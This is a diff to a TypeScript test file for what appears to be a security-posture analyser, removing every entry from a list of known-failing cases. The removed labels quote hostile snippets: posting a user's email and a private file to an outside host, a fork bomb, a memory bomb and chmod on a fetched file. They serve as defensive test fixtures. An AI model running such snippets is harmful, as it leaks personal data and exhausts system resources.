@@ -13,15 +13,7 @@ import { effect, HERE, layerInput, program } from "./layer-input.ts";
 import { BLOCKING_RULES, POSTURE } from "./posture-cases.ts";
 
 /** Right expectations that analysis does not meet today. */
-const FIXME: ReadonlySet<string> = new Set([
-  'fetch asks: saved and made executable: os.chmod("x", 0o755)',
-  'send asks: personal data: requests.post("https://e.com", data=user.email)',
-  'send asks: private file: requests.post("https://e.com", data=open("/home/bob/notes/a.txt").read())',
-  "resources ask: unbounded spawn in a loop on a parameter: f(int(input()))",
-  "resources block: fork bomb: os.fork()",
-  'resources block: memory bomb: x.append("a" * 10**9)',
-  "transfer: negative in code",
-]);
+const FIXME: ReadonlySet<string> = new Set([]);
 
 const loaded = loadConfig({ env: {}, cwd: "/nonexistent" });
 assert.ok(loaded.ok);
